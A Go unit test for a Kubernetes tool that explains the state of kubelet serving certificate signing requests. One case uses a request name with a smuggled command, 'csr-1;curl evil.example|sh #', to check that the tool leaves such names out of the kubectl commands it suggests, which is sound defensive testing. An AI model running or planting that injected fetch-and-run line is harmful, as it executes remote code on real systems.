package inspect

import (
	"errors"
	"testing"
	"time"

	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestAddServingRequest(t *testing.T) {
	now := time.Now()
	request := func(certificate string, kinds ...certificatesv1.RequestConditionType) *certificatesv1.CertificateSigningRequest {
		csr := &certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: "csr-1", CreationTimestamp: metav1.NewTime(now.Add(-time.Hour))}}
		csr.Status.Certificate = []byte(certificate)
		for _, kind := range kinds {
			csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
				Type: kind, Status: corev1.ConditionTrue, Reason: "Because", Message: string(kind), LastUpdateTime: metav1.NewTime(now.Add(-time.Hour)),
			})
		}
		return csr
	}
	named := func(name string) *certificatesv1.CertificateSigningRequest {
		csr := request("")
		csr.Name = name
		return csr
	}
	made := func(at time.Time) *certificatesv1.CertificateSigningRequest {
		csr := request("")
		csr.CreationTimestamp = metav1.NewTime(at)
		return csr
	}
	for name, test := range map[string]struct {
		of   ServingRequest
		want Fact
	}{
		"not read":   {ServingRequest{Err: errors.New("no rights")}, Fact{Name: "request", Value: "not known", Why: "no rights"}},
		"none":       {ServingRequest{}, Fact{Name: "request", Value: "none", Why: "the kubelet has not asked, which it does with serverTLSBootstrap: true, or Kubernetes has deleted the request since"}},
		"denied":     {ServingRequest{Request: request("", certificatesv1.CertificateDenied)}, Fact{"decision", "denied", "Because: Denied", true}},
		"failed":     {ServingRequest{Request: request("", certificatesv1.CertificateApproved, certificatesv1.CertificateFailed)}, Fact{"decision", "not signed", "Because: Failed", true}},
		"approved":   {ServingRequest{Request: request("x", certificatesv1.CertificateApproved)}, Fact{"decision", "approved", "Because: Approved", false}},
		"not signed": {ServingRequest{Request: request("", certificatesv1.CertificateApproved)}, Fact{"decision", "approved", "nobody signs it: kube-controller-manager does, with --cluster-signing-cert-file or --cluster-signing-kubelet-serving-cert-file", true}},
		"waits": {ServingRequest{Request: request(""), Waits: "no event says why"}, Fact{"decision", "waits",
			"no event says why; look at what it asks for before you approve it: kubectl describe csr csr-1; kubectl certificate approve csr-1", true}},
		"waits, with a name for a shell": {ServingRequest{Request: named("csr-1;curl evil.example|sh #"), Waits: "no event says why"}, Fact{"decision", "waits", "no event says why", true}},
		"new":                            {ServingRequest{Request: made(now)}, Fact{"decision", "waits", "it is new", false}},
	} {
		t.Run(name, func(t *testing.T) {
			var e Explanation
			e.AddServingRequest(test.of, now)
			facts := e.Sections[0].Facts
			if got := facts[len(facts)-1]; got != test.want {
				t.Errorf("got %+v, want %+v", got, test.want)
			}
		})
	}
}
